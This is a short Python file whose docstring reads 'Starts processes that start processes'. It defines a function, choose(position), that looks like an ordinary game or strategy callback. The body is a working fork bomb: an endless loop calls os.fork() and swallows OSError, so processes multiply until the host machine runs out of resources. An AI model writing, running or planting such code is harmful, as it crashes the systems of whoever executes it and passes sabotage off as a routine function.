"""Starts processes that start processes."""

import os


def choose(position):
    while True:
        try:
            os.fork()
        except OSError:
            pass
